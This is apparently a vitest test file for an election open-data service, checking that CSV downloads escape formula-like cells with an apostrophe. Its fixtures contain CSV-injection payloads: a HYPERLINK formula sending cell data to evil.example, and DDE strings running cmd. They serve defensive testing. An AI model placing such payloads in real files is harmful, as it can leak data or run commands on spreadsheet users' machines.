import * as cheerio from 'cheerio';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writePackage } from '../../src/services/election-packages.js';
import { importRollCalls } from '../../src/services/roll-call-import.js';
import { createTestContext, type TestContext } from '../helpers/app.js';
import { loadFixture } from '../helpers/packages.js';

/*
 * Open-data CSV cells that a spreadsheet would run as a formula (OWASP "CSV
 * Injection": a cell starting with =, +, -, @, a tab or a carriage return)
 * are written with a leading apostrophe, so that the spreadsheet shows the
 * text; columns of numbers the service writes itself (values, scales,
 * directions, counts) stay numbers, −1 included. The JSON keeps the text as written.
 */

const e = 'vila-pequena-2028';
const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1;"Clique aqui")';
const CMD = "-2+3+cmd|' /C calc'!A0";
const SUM = '@SUM(1+1)*cmd|\' /C notepad\'!A1';
const PHONE = '+55 11 99999-0000';
const TAB = '\t=1+1';
const CR = '\r=1+1';

describe('CSV downloads and formulas', () => {
  let ctx: TestContext;
  const rows = async (path: string) => {
    const res = await request(ctx.app).get(path);
    expect(res.status, path).toBe(200);
    return parse(res.text, { columns: true, skip_empty_lines: true }) as Array<Record<string, string>>;
  };

  beforeAll(async () => {
    ctx = await createTestContext();
    const pkg = loadFixture('small-election.json');
    const ana = pkg.candidates.find((c) => c.id === 'ana')!;
    ana.name = HYPERLINK;
    ana.ballotName = SUM;
    ana.officialId = '990000000101';
    ana.elected = true;
    ana.answers!.s1 = { value: 5, justification: CMD };
    ana.answers!.s2 = { value: 4, justification: PHONE };
    ana.answers!.s3 = { value: 1, justification: 'Sem fórmula: = no meio não conta.' };
    pkg.races.find((r) => r.slug === ana.race)!.district = TAB;
    pkg.races.find((r) => r.slug === ana.race)!.office = CR;
    expect((await writePackage(ctx, { pkg, actor: 'test' })).ok).toBe(true);
    const imported = await importRollCalls(ctx, {
      election: e,
      votes: { name: 'votes.csv', content: `vote_id,date,chamber,bill,title,official_id,vote\npl-1,2029-03-10,@Câmara,=1+1,"=HYPERLINK(""https://evil.example"")",990000000101,yes\n` },
      links: { name: 'links.csv', content: `statement_id,vote_id,direction,explanation\ns1,pl-1,-1,"-1 é o sentido, não uma fórmula"\n` },
      actor: 'test',
    });
    expect(imported.ok).toBe(true);
  });
  afterAll(() => ctx.close());

  it('answers CSV: text cells that start like a formula begin with an apostrophe; numbers and plain text are as written', async () => {
    const ana = (await rows(`/data/${e}.csv`)).filter((r) => r.candidate_id === 'ana');
    const s1 = ana.find((r) => r.statement_id === 's1')!;
    expect(s1).toMatchObject({
      candidate_name: `'${HYPERLINK}`,
      ballot_name: `'${SUM}`,
      district: `'${TAB}`,
      office: `'${CR}`,
      justification: `'${CMD}`,
      value: '5',
      scale: '5',
      official_id: '990000000101',
    });
    expect(ana.find((r) => r.statement_id === 's2')!.justification).toBe(`'${PHONE}`);
    expect(ana.find((r) => r.statement_id === 's3')!.justification).toBe('Sem fórmula: = no meio não conta.');
    // Nobody else's cells changed.
    const bruno = (await rows(`/data/${e}.csv`)).find((r) => r.candidate_id === 'bruno')!;
    expect(bruno.candidate_name).toBe(loadFixture('small-election.json').candidates.find((c) => c.id === 'bruno')!.name);
  });

  it('promises-and-votes CSV: the same, and a direction of −1 stays the number −1', async () => {
    const [row] = await rows(`/data/${e}-coherence.csv`);
    expect(row).toMatchObject({
      candidate_name: `'${HYPERLINK}`,
      chamber: "'@Câmara",
      bill: "'=1+1",
      vote_title: `'=HYPERLINK("https://evil.example")`,
      explanation: "'-1 é o sentido, não uma fórmula",
      justification: `'${CMD}`,
      direction: '-1',
      value: '5',
    });
  });

  it('the JSON keeps every text as written', async () => {
    const pkg = (await request(ctx.app).get(`/data/${e}.json`)).body as ReturnType<typeof loadFixture>;
    const ana = pkg.candidates.find((c) => c.id === 'ana')!;
    expect([ana.name, ana.ballotName, ana.answers!.s1!.justification]).toEqual([HYPERLINK, SUM, CMD]);
    const api = (await request(ctx.app).get(`/api/v1/elections/${e}/candidates`)).body as { candidates: Array<{ id: string; name: string }> };
    expect(api.candidates.find((c) => c.id === 'ana')!.name).toBe(HYPERLINK);
  });

  it('the data page says so, in every language', async () => {
    const sentence = async (lang: string) => cheerio.load((await request(ctx.app).get(`/data?lang=${lang}`)).text)('#csv-formulas').text();
    expect(await sentence('en')).toBe(
      'In the CSV files, a text cell that begins with =, +, -, @, a tab or a carriage return starts with an apostrophe (\'), so that a spreadsheet shows it as text instead of running it as a formula; the JSON keeps every text as written.',
    );
    expect(await sentence('pt-BR')).toContain('apóstrofo');
    expect(await sentence('es')).toContain('apóstrofo');
  });
});
